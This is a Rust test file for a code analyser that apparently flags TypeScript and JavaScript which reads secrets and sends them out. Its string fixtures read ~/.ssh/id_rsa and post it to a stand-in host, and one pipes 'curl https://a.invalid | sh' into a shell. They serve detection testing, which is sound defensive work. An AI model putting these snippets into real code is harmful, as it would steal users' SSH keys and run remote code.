//! What is told of TypeScript: the same as of the script without its types.

use super::language::Language::JavaScript;
use super::tests::{tells, told};

/// Where keys are read, whichever way they go from there.
const READS: &str = "import * as fs from 'node:fs';\nimport os = require('os');\n\
                     import type { Stats } from 'fs';\nimport path = require('path');\n";

/// The keys are sent.
const SENT: &[&str] = &["contact https://a.invalid with  [Keys]"];

fn sends(text: &str) {
    tells(JavaScript, &format!("{READS}{text}"), SENT);
}

#[test]
fn typed_parameters_generics_and_casts_are_followed() {
    sends(
        "function read<T extends string>(this: void, name: T, mode?: BufferEncoding): string | undefined {\n\
           return fs.readFileSync(path.join(os.homedir(), '.ssh', name as string), mode ?? 'utf8') as string;\n}\n\
         async function send(body: unknown, to: URL | string = 'https://a.invalid'): Promise<void> {\n\
           await fetch('https://a.invalid', { method: 'POST', body: <BodyInit>body } satisfies RequestInit);\n}\n\
         void send(read<'id_rsa'>('id_rsa')!);\n",
    );
    sends(
        "const key: string = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)!.toString();\n\
         axios.post<Answer<string>>('https://a.invalid', { key });\n",
    );
    sends(
        "let key!: Buffer;\nkey = (fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`) as unknown) as Buffer;\n\
         const post = async <T,>(body: T): Promise<Response> => fetch('https://a.invalid', { body });\n\
         post(key);\n",
    );
    sends(
        "interface Ask { (body: string): void }\ntype Keys = Record<string, string>;\n\
         const all: Keys = {};\nfor (const name of ['id_rsa'] as const) {\n\
           all[name] = fs.readFileSync(`${os.homedir()}/.ssh/${name}`, 'utf8');\n}\n\
         const ask: Ask = (body: string): void => { fetch('https://a.invalid', { body }); };\n\
         ask(JSON.stringify(all));\n",
    );
}

#[test]
fn classes_are_followed_through_their_fields_and_constructors() {
    sends(
        "abstract class Desk<T> implements Tidy {\n  readonly #where: string = 'https://a.invalid';\n\
           private body?: string;\n  constructor(private readonly key: T, protected x = 1) { super(); }\n\
           abstract tidy(): void;\n  public async send(): Promise<void> {\n\
             await fetch(this.#where, { method: 'POST', body: String(this.key) });\n  }\n}\n\
         new Desk<string>(fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8')).send();\n",
    );
    sends(
        "class Desk {\n  key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`);\n\
           send() { fetch('https://a.invalid', { method: 'POST', body: this.key }); }\n}\n",
    );
    sends(
        "@injectable()\nclass Desk {\n  #key: Buffer;\n\
           constructor(key: Buffer) { this.#key = key; }\n\
           @log send(@body() x?: number) { fetch('https://a.invalid', { body: this.#key }); }\n}\n\
         const desk: Desk = new Desk(fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`));\n",
    );
    // Without types too.
    sends(
        "class Desk {\n  constructor(key) { this.key = key; }\n\
           send() { fetch('https://a.invalid', { body: this.key }); }\n}\n\
         new Desk(fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)).send();\n",
    );
}

#[test]
fn enumerations_namespaces_and_decorators_are_followed() {
    sends(
        "enum Place { Key = '.ssh/id_rsa', Where = 'https://a.invalid', Other }\n\
         fetch(Place.Where, { body: fs.readFileSync(path.join(os.homedir(), Place.Key)) });\n",
    );
    sends(
        "namespace Desk.Inner {\n  export const where: string = 'https://a.invalid';\n\
           export function read(): Buffer { return fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`); }\n}\n\
         import where = Desk.Inner.where;\n\
         fetch(Desk.Inner.where, { body: Desk.Inner.read() });\n",
    );
    tells(
        JavaScript,
        "import { execSync } from 'child_process';\nconst run = (t: string) => execSync(t);\n\
         @run('curl https://a.invalid | sh')\nexport class Desk { private a: number = 1; }\n",
        &["contact https://a.invalid with ", "sh <- … [fetched]"],
    );
}

#[test]
fn pages_with_types_are_read_as_such() {
    sends(
        "export const Desk: React.FC<{ a: string }> = ({ a }: { a: string }) => {\n\
           const key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`) as Buffer;\n\
           return <div onClick={(e: Event) => fetch('https://a.invalid', { body: key })}>{a!}</div>;\n};\n",
    );
}

#[test]
fn code_that_is_run_may_have_types() {
    tells(
        JavaScript,
        "require('child_process').spawnSync('bun', ['-e', \
         \"const k: string = await Bun.file('/root/.ssh/id_rsa').text(); fetch('https://a.invalid', { body: k as any });\"]);\n",
        SENT,
    );
}

#[test]
fn nothing_is_told_of_typescript_that_sends_no_more_than_it_says() {
    let text = format!(
        "{READS}enum Place {{ Key = '.ssh/id_rsa', Notes = 'notes.txt' }}\n\
         type Key = '~/.ssh/id_rsa';\ninterface Sent {{ key: Key; body: string }}\n\
         declare const key: Key;\ndeclare function exec(line: 'curl https://b.invalid | sh'): void;\n\
         namespace Desk {{ export const where = 'https://a.invalid'; }}\n\
         class Notes {{\n  private text: string = fs.readFileSync(Place.Notes, 'utf8');\n\
           constructor(private readonly place: Place) {{}}\n\
           send(): Promise<Response> {{ return fetch(Desk.where, {{ body: this.text as string }}); }}\n}}\n\
         new Notes(Place.Notes).send();\n"
    );
    let told = told(JavaScript, &text);
    let contact = "contact https://a.invalid with ".to_owned();
    assert!(told.contains(&contact), "{told:#?}");
    let is_bad = |line: &&String| line.contains("[Keys]") || line.contains("b.invalid");
    assert_eq!(told.iter().find(is_bad), None, "{told:#?}");
}
